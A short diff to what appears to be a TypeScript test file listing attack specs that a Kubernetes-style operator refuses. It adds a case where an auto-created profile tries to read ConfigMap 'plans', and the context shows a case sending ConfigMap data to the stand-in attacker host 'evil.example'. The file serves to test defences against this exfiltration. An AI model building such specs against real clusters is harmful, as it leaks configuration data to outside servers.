@@ -229,6 +229,11 @@ export const refusedToAuthors: readonly RefusedAttack[] = [
     words: /neither read the Secret "payroll"/,
   },
   {
+    name: 'to have a ConfigMap sent by a profile that the operator makes',
+    spec: { profile: { auto: true, template: { sweep: { concurrency: [1] }, payload: { configMapKeyRef: { name: 'plans', key: 'x' } } } } },
+    words: /neither read the ConfigMap "plans"/,
+  },
+  {
     name: 'to have a ConfigMap sent to a server of their own',
     kind: 'ModelProfile',
     spec: { target: { url: 'http://evil.example', modelName: 'x' }, payload: { configMapKeyRef: { name: 'plans', key: 'x' } } },
